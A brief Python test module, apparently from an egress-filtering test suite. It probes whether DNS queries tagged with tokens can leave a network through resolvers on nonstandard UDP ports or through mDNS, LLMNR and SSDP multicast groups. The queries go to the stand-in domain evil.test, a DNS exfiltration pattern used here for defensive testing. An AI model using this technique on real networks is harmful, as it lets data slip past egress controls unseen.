# SPDX-License-Identifier: Apache-2.0
"""Resolvers on other ports, and the multicast ones."""
import dns

TITLE = "resolvers on other ports and by multicast: 5353, 5355, 137, 1900"
THREAT = "17"


def attack(c):
    for port in (53, 5353, 5355, 137, 5350, 54, 5300):
        with c.step(f"udp {port}") as token:
            c.udp(c.e, port, dns.query(f"{token}.evil.test"))
    groups = (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900)) if c.family == 4 else \
        (("ff02::fb", 5353), ("ff02::1:3", 5355), ("ff05::c", 1900))
    for group, port in groups:
        with c.step(f"multicast {group}") as token:
            c.multicast(group, port, dns.query(f"{token}.local"))
